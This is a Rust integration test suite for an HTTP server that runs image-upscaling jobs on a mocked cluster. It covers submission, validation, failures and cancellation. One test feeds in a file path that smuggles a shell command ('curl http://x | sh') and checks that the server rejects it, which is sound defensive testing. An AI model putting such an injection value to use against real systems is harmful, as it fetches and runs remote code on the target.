use axum::Router;
use axum::body::{Body, to_bytes};
use axum::http::{Method, Request, StatusCode};
use kiln_compute_mock::ScriptedCluster;
use kiln_core::prelude::*;
use kiln_fs::FileSystemOutputs;
use kiln_runner::prelude::*;
use kiln_server::KilnServer;
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::sync::Arc;
use std::time::Duration;
use tempfile::TempDir;
use tower::ServiceExt;

const TEMPLATE: &str = r#"apiVersion: v1
kind: Pod
metadata:
  name: ${POD_NAME}
spec:
  restartPolicy: Never
  containers:
    - name: model
      image: ${IMAGE}
      args: ["${INPUT_IMAGE}", "${OUTPUT_DIR}", "--scale", "${SCALE}"]
"#;

fn upscaler() -> ModelDescriptor {
    let mut params = BTreeMap::new();
    params.insert(
        "scale".to_string(),
        ParamSpec {
            kind: ParamType::Integer,
            choices: vec![json!(2), json!(4)],
            min: None,
            max: None,
            default: Some(json!(4)),
            required: false,
            flag: None,
        },
    );

    ModelDescriptor {
        id: "realesrgan".into(),
        name: "Real-ESRGAN".into(),
        description: "Image and video upscaling".into(),
        workdir: "/data/Real-ESRGAN".into(),
        environment: "/data/realesrgan-venv".into(),
        image: "registry.local/svfr-base:latest".into(),
        template: ManifestTemplate {
            id: "realesrgan.yaml".into(),
            body: TEMPLATE.into(),
        },
        input: InputKind::Image,
        output_kind: OutputKind::Image,
        inputs: vec!["image".into()],
        params,
        output: OutputSpec {
            dir: "/data/output/realesrgan".into(),
            name: None,
            extension: "png".into(),
            strategy: RetrievalStrategy::Shared,
            container: None,
        },
        resources: ResourceLimits::default(),
        enabled: true,
    }
}

struct TestApp {
    app: Router,
    orchestrator: Orchestrator<ScriptedCluster, FileSystemOutputs>,
    cluster: ScriptedCluster,
    _shared: TempDir,
}

fn app() -> TestApp {
    let shared = TempDir::new().unwrap();
    let registry = ModelRegistry::from_descriptors([upscaler()]).unwrap();
    let store = FileSystemOutputs::new(shared.path().join("results"))
        .with_mount("/data", shared.path());
    let cluster = ScriptedCluster::new();

    let local = store.clone();
    cluster.on_success(move |manifest| {
        let dir = local.locate(&manifest.output.dir);
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(dir.join("frame_out.png"), b"\x89PNG").unwrap();
    });

    let config = OrchestratorConfig {
        poll_interval: Duration::from_millis(10),
        output_grace: Duration::from_millis(200),
        output_probe_interval: Duration::from_millis(10),
        submit_retry: RetryConfig::immediate(3),
        cleanup_retry: RetryConfig::immediate(3),
        ..OrchestratorConfig::default()
    };
    let orchestrator = Orchestrator::new(Arc::new(registry), cluster.clone(), store, config);

    TestApp {
        app: KilnServer::default().build(orchestrator.clone()),
        orchestrator,
        cluster,
        _shared: shared,
    }
}

async fn call(
    app: &Router,
    method: Method,
    uri: &str,
    body: Option<Value>,
) -> (StatusCode, Value) {
    let builder = Request::builder().method(method).uri(uri);
    let request = match body {
        Some(body) => builder
            .header("content-type", "application/json")
            .body(Body::from(body.to_string()))
            .unwrap(),
        None => builder.body(Body::empty()).unwrap(),
    };

    let response = app.clone().oneshot(request).await.unwrap();
    let status = response.status();
    let bytes = to_bytes(response.into_body(), usize::MAX).await.unwrap();
    let value = serde_json::from_slice(&bytes).unwrap_or(Value::Null);
    (status, value)
}

fn upscale_request(id: &str) -> Value {
    json!({
        "id": id,
        "model": "realesrgan",
        "params": {"scale": 2},
        "inputs": {"image": "/data/input/image/cat.png"}
    })
}

#[tokio::test]
async fn health() {
    let t = app();
    let response = t
        .app
        .clone()
        .oneshot(Request::get("/health").body(Body::empty()).unwrap())
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
}

#[tokio::test]
async fn lists_models_with_availability() {
    let t = app();
    let (status, body) = call(&t.app, Method::GET, "/models", None).await;

    assert_eq!(status, StatusCode::OK);
    assert_eq!(body[0]["id"], "realesrgan");
    assert_eq!(body[0]["params"]["scale"]["type"], "integer");
    // The working directory does not exist on the test machine.
    assert_eq!(body[0]["available"], false);
}

#[tokio::test]
async fn submit_then_follow_to_output() {
    let t = app();
    let (status, body) = call(&t.app, Method::POST, "/jobs", Some(upscale_request("up-1"))).await;
    assert_eq!(status, StatusCode::ACCEPTED);
    assert_eq!(body["id"], "up-1");

    tokio::time::timeout(Duration::from_secs(5), t.orchestrator.wait("up-1"))
        .await
        .unwrap()
        .unwrap();

    let (status, body) = call(&t.app, Method::GET, "/jobs/up-1/status", None).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body["phase"], "Succeeded");

    let (status, body) = call(&t.app, Method::GET, "/jobs/up-1/output", None).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body["status"], "ready");
    assert!(body["path"].as_str().unwrap().ends_with("up-1/frame_out.png"));

    let (status, body) = call(&t.app, Method::GET, "/jobs?model=realesrgan", None).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body.as_array().unwrap().len(), 1);
}

#[tokio::test]
async fn invalid_parameter_is_a_bad_request() {
    let t = app();
    let mut request = upscale_request("up-2");
    request["params"]["scale"] = json!(3);

    let (status, body) = call(&t.app, Method::POST, "/jobs", Some(request)).await;

    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_eq!(body["error"], "validation");
    assert!(t.cluster.created().is_empty());
}

#[tokio::test]
async fn input_path_with_shell_syntax_is_a_bad_request() {
    let t = app();
    let mut request = upscale_request("up-3");
    request["inputs"]["image"] = json!("/data/in.png\"; curl http://x | sh; echo \"");

    let (status, body) = call(&t.app, Method::POST, "/jobs", Some(request)).await;

    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_eq!(body["error"], "validation");
    assert!(t.cluster.created().is_empty());
}

#[tokio::test]
async fn unknown_model_and_job() {
    let t = app();
    let (status, body) = call(
        &t.app,
        Method::POST,
        "/jobs",
        Some(json!({"model": "stable-diffusion"})),
    )
    .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert_eq!(body["error"], "model_not_found");

    let (status, body) = call(&t.app, Method::GET, "/jobs/nope/status", None).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert_eq!(body["error"], "not_found");

    let (status, _) = call(&t.app, Method::POST, "/jobs/nope/cancel", None).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn duplicate_id_conflicts() {
    let t = app();
    let (status, _) = call(&t.app, Method::POST, "/jobs", Some(upscale_request("up-3"))).await;
    assert_eq!(status, StatusCode::ACCEPTED);

    let (status, body) = call(&t.app, Method::POST, "/jobs", Some(upscale_request("up-3"))).await;
    assert_eq!(status, StatusCode::CONFLICT);
    assert_eq!(body["error"], "duplicate_job");
}

#[tokio::test]
async fn failed_job_output_is_unprocessable() {
    let t = app();
    t.cluster.script(
        "up-4",
        vec![Ok(UnitStatus::new(UnitPhase::Failed(
            "container model exited with code 1".into(),
        )))],
    );
    call(&t.app, Method::POST, "/jobs", Some(upscale_request("up-4"))).await;
    tokio::time::timeout(Duration::from_secs(5), t.orchestrator.wait("up-4"))
        .await
        .unwrap()
        .unwrap();

    let (status, body) = call(&t.app, Method::GET, "/jobs/up-4/output", None).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(body["error"], "execution");
    assert!(body["message"].as_str().unwrap().contains("code 1"));
}

#[tokio::test]
async fn cancel_and_purge() {
    let t = app();
    t.cluster
        .script("up-5", vec![Ok(UnitStatus::new(UnitPhase::Running))]);
    call(&t.app, Method::POST, "/jobs", Some(upscale_request("up-5"))).await;

    let (status, body) = call(&t.app, Method::POST, "/jobs/up-5/cancel", None).await;
    assert_eq!(status, StatusCode::ACCEPTED);
    assert_eq!(body["status"], "cancelling");

    tokio::time::timeout(Duration::from_secs(5), t.orchestrator.wait("up-5"))
        .await
        .unwrap()
        .unwrap();

    let (status, body) = call(&t.app, Method::POST, "/jobs/up-5/cancel", None).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body["status"], "already_terminal");
    assert_eq!(body["phase"], "Cancelled");

    let (status, body) = call(&t.app, Method::DELETE, "/jobs/up-5", None).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body["phase"], "Cancelled");

    let (status, _) = call(&t.app, Method::GET, "/jobs/up-5", None).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
}
